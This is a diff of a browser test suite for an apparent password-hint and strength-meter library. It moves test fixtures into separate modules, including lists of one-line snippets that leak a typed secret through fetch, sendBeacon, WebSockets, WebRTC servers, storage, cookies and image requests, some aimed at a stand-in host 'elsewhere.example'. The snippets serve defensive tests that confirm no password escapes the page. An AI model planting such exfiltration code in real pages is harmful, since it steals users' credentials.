@@ -5,7 +5,6 @@
  * thread, which rates it. A second half shows that each spy sees what it is to see.
  */
 import assert from "node:assert/strict";
-import { createHash } from "node:crypto";
 import { stat } from "node:fs/promises";
 import { createServer } from "node:net";
 import { after, before, describe as group, test } from "node:test";
@@ -13,8 +12,11 @@ import { fileURLToPath } from "node:url";
 import { serveDemo } from "../../scripts/serve.mjs";
 import { launch } from "../browser/chromium.js";
 import { serve } from "../browser/server.js";
+import { LEAKS, LEFT, SENT, THREAD_LEAKS } from "./leaks.js";
 import { copies, marker } from "./marker.js";
+import { DIGEST, HOSTED, LEAKED, PAGES } from "./spied-pages.js";
 import { remains, spy } from "./spy.js";
+import { requests } from "./wire.js";
 
 /** @import {AddressInfo, Server} from "node:net" */
 /** @import {Browser, Page} from "playwright-core" */
@@ -50,33 +52,6 @@ const keep = (server, into) => server.on("connection", (socket) => {
   socket.on("data", (chunk) => bytes.push(chunk));
   socket.on("error", () => {});
 });
-
-const HOSTED = marker(9).toLowerCase();
-const LEAKED = marker(20);
-const digest = createHash("sha1").update(LEAKED).digest("hex").toUpperCase();
-const FIELDS = `<label>Name <input class="name" name="user" autocomplete="username"></label> <label>Password <input class="secret" name="password" type="password" autocomplete="current-password"></label> <button>Sign in</button>`;
-/** @param {string} body @param {string} script */
-const page = (body, script) => `<!doctype html><html lang="en"><meta charset="utf-8"><title>Sign in</title><link rel="icon" href="data:,"><link rel="stylesheet" href="/passkind.css">${body}
-  <script type="module">${script}
-  for (const form of document.forms) form.addEventListener("submit", (event) => event.preventDefault());
-  document.documentElement.dataset.ready = "";</script></html>`;
-const METER = `<form id="new"><label>Name <input id="who" autocomplete="username"></label><label>New password <input id="fresh" type="password" autocomplete="new-password"></label></form>`;
-const PAGES = {
-  "/all": page(`<form id="form">${FIELDS}</form><passkind-hints service="account" provider="infomaniak" expose-codes><form id="inside">${FIELDS}</form></passkind-hints>
-    <form id="host"><div id="shadow"></div><button>Sign in</button></form>${METER}<passkind-guide provider="infomaniak"></passkind-guide>`, `
-    import { attach } from "/index.js"; import { attachMeter } from "/meter.js"; import "/define.js"; import "/define-guide.js";
-    document.querySelector("#shadow").attachShadow({ mode: "open" }).append(...document.querySelector("#form").cloneNode(true).children);
-    const live = ["form", "host"].map((id) => attach(document.getElementById(id), { service: "account", provider: "infomaniak", hostedDomains: ["${HOSTED}.example"], explain: "always", holdOnce: true, exposeCodes: true }));
-    attachMeter(document.querySelector("#fresh"), { identifier: document.querySelector("#who") });
-    document.addEventListener("submit", () => { for (const one of live) one.refused(); document.querySelector("passkind-hints").refuse(); });`),
-  "/list": page(METER, `import { attachMeter } from "/meter.js";
-    attachMeter(document.querySelector("#fresh"), { identifier: document.querySelector("#who"), ...(location.search && { breach: "/range/" }) });`),
-  [`/range/${digest.slice(0, 5)}`]: { body: `${digest.slice(5)}:7\r\n${"0".repeat(35)}:0`, headers: { "content-type": "text/plain" } },
-  "/control": page(`<div id="stage"></div>`, ""),
-  "/control-worker.js": `import "/spied.js"; postMessage("up");`,
-  "/nothing.gif": { status: 404 },
-  "/gone": "",
-};
 
 before(async () => {
   elsewhere = createServer();
@@ -317,7 +292,7 @@ group("what is typed stays", { concurrency: 3 }, () => {
   test("a list of leaked passwords: five digits go out where the page asks for it, and nothing where it does not", async () => {
     const { tab, heard, urls, close } = await spied();
     typed.passwords.push(LEAKED);
-    for (const [path, expected] of /** @type {const} */ ([["/list", []], ["/list?on=1", [`/range/${digest.slice(0, 5)}`]]])) {
+    for (const [path, expected] of /** @type {const} */ ([["/list", []], ["/list?on=1", [`/range/${DIGEST.slice(0, 5)}`]]])) {
       const from = wire.here.length;
       await tab.goto(fixture.origin + path);
       await tab.locator("html[data-ready]").waitFor({ state: "attached" });
@@ -336,8 +311,8 @@ group("what is typed stays", { concurrency: 3 }, () => {
       await clean(tab, path);
     }
     const sent = heard.filter(({ channel }) => channel !== `to worker ${WORKER}`).map(({ text }) => text).join("\n") + urls.join("\n") + wire.here.flat().join("");
-    assert.deepEqual(copies(sent, [LEAKED, digest.slice(5)]), [], "neither the password nor more of its digest");
-    assert.deepEqual(heard.filter(({ channel }) => channel === "fetch").map(({ text }) => text.split(" | ")[0]?.replace(fixture.origin, "")).sort(), ["/pkg/strength.wasm", "/pkg/strength.wasm", `/range/${digest.slice(0, 5)}`]);
+    assert.deepEqual(copies(sent, [LEAKED, DIGEST.slice(5)]), [], "neither the password nor more of its digest");
+    assert.deepEqual(heard.filter(({ channel }) => channel === "fetch").map(({ text }) => text.split(" | ")[0]?.replace(fixture.origin, "")).sort(), ["/pkg/strength.wasm", "/pkg/strength.wasm", `/range/${DIGEST.slice(0, 5)}`]);
     await close();
   });
 
@@ -356,61 +331,6 @@ group("on the wire", () => {
     console.log(`spies: ${typed.passwords.length} passwords and ${typed.names.length} names typed, ${all.length} requests, 0 copies`);
   });
 });
-
-/** What a connection asked for. @param {Buffer[]} bytes @returns {{ path: string, headers: string, body: string }[]} */
-function requests(bytes) {
-  const found = [];
-  for (let text = Buffer.concat(bytes).toString("latin1"); text;) {
-    const end = text.indexOf("\r\n\r\n");
-    if (end < 0) break;
-    const [start = "", ...lines] = text.slice(0, end).split("\r\n");
-    const headers = lines.join("\n");
-    const length = Number(/^content-length: (\d+)$/im.exec(headers)?.[1] ?? 0);
-    found.push({ path: start.split(" ")[1] ?? "", headers, body: text.slice(end + 4, end + 4 + length) });
-    text = text.slice(end + 4 + length);
-  }
-  return found;
-}
-
-/** Channel, and code that leaks by it. @type {[channel: string, code: string][]} */
-const LEAKS = [
-  ["fetch", "fetch('/gone?' + secret)"], ["fetch", "fetch('/gone', { method: 'POST', body: secret })"], ["fetch", "fetch(new Request('/gone', { headers: { 'x-a': secret } }))"],
-  ["XMLHttpRequest", "(() => { const one = new XMLHttpRequest(); one.open('POST', '/gone'); one.send(secret); })()"],
-  ["sendBeacon", "navigator.sendBeacon('/gone', secret)"], ["new WebSocket", "new WebSocket('ws://127.0.0.1:9/' + secret)"], ["new EventSource", "new EventSource('/gone?' + secret).close()"],
-  ["new RTCPeerConnection", "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + secret + '.example' }] }).close()"],
-  ["new RTCPeerConnection", "new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.example', username: btoa('name:' + secret), credential: 'x' }] }).close()"],
-  ["Storage", "localStorage.setItem('a', secret)"], ["Storage", "sessionStorage.a = secret"], ["indexedDB", "indexedDB.open(secret)"], ["caches", "caches.open(secret)"],
-  ["cookie", "document.cookie = 'a=' + secret"], ["window.name", "window.name = secret"], ["console", "console.debug({ a: [secret] })"], ["console", "console.error(new Error(secret))"],
-  ["history", "history.pushState(null, '', '?' + secret)"], ["history", "history.replaceState({ a: secret }, '')"], ["performance", "performance.mark(secret)"], ["title", "document.title = secret"],
-  ["window.postMessage", "postMessage(secret, '*')"], ["MessagePort", "new MessageChannel().port1.postMessage({ a: secret })"], ["BroadcastChannel", "new BroadcastChannel('a').postMessage(secret)"],
-  ["to worker /control-worker.js", "control.postMessage({ a: new Map([[1, secret]]) })"], ["new Blob", "new Blob(['a' + secret])"],
-  ["new CustomEvent", "new CustomEvent('a', { detail: { a: secret } })"], ["dispatchEvent", "stage.dispatchEvent(Object.assign(new Event('a'), { detail: secret }))"],
-  ["attribute", "stage.dataset.a = secret"], ["attribute", "stage.style.setProperty('--a', secret)"], ["attribute", "stage.append(Object.assign(document.createElement('a'), { href: '/' + secret }))"],
-  ["attribute", "(() => { const host = document.createElement('div'); stage.append(host); const p = document.createElement('p'); host.attachShadow({ mode: 'open' }).append(p); p.title = secret; })()"],
-  ["text", "stage.append(secret)"], ["value", "document.createElement('input').value = secret"], ["error", "setTimeout(() => { throw new Error(secret); })"], ["error", "void Promise.reject(new Error(encodeURIComponent(secret + ' %')))"],
-  ["style", "(() => { const style = document.createElement('style'); stage.append(style); style.sheet.insertRule('a { --a: ' + secret + ' }'); })()"],
-];
-/** In a thread. @type {[channel: string, code: string][]} */
-const THREAD_LEAKS = [
-  ["fetch", "fetch('/gone?' + secret)"], ["XMLHttpRequest", "(() => { const one = new XMLHttpRequest(); one.open('GET', '/gone?' + secret); one.send(); })()"], ["new WebSocket", "new WebSocket('ws://127.0.0.1:9/' + secret)"],
-  ["indexedDB", "indexedDB.open(secret)"], ["caches", "caches.open(secret)"], ["console", "console.info(secret)"], ["from worker", "postMessage({ a: { b: secret } })"],
-  ["BroadcastChannel", "new BroadcastChannel('a').postMessage(secret)"], ["performance", "performance.mark(secret)"], ["new Blob", "new Blob([secret])"],
-];
-/** Place, and code that leaves something in it. @type {[place: string, code: string][]} */
-const LEFT = [
-  ["document", "stage.title = secret"], ["document", "stage.append(document.createComment(secret))"],
-  ["document", "(() => { const host = document.createElement('div'); stage.append(host); host.attachShadow({ mode: 'open' }).innerHTML = '<i title=\"' + secret + '\"></i>'; })()"],
-  ["values", "stage.append(Object.assign(document.createElement('input'), { type: 'hidden', value: secret }))"], ["storage", "localStorage.a = secret"], ["storage", "document.cookie = 'a=' + secret"],
-  ["databases", "new Promise((done) => (indexedDB.open(secret).onsuccess = done))"], ["databases", "caches.open(secret)"], ["address", "location.hash = secret"], ["address", "history.replaceState({ a: secret }, '')"],
-  ["performance", "performance.mark(secret)"], ["performance", "fetch('/gone?' + secret).then((one) => one.text())"], ["globals", "window.kept = secret"], ["globals", "window.kept = btoa(secret)"],
-];
-/** What comes in at a server, here or elsewhere. @type {["here" | "there", string][]} */
-const SENT = [
-  ["here", "new Image().src = '/nothing.gif?' + secret"], ["here", "stage.style.backgroundImage = 'url(/nothing.gif?' + encodeURIComponent(secret) + ')'"],
-  ["here", "fetch('/gone', { headers: { 'x-a': secret } })"], ["here", "fetch('/gone', { method: 'POST', body: btoa(secret) })"], ["here", "import('/gone.js?' + secret).catch(() => {})"],
-  ["here", "stage.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/gone?' + secret }))"],
-  ["there", "new Image().src = 'http://elsewhere.example/' + secret"], ["there", "fetch('http://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: secret })"], ["there", "navigator.sendBeacon('http://elsewhere.example/' + secret)"],
-];
 
 group("each spy sees what it is to see", () => {
   /** @type {Awaited<ReturnType<typeof spied>>} */ let control;
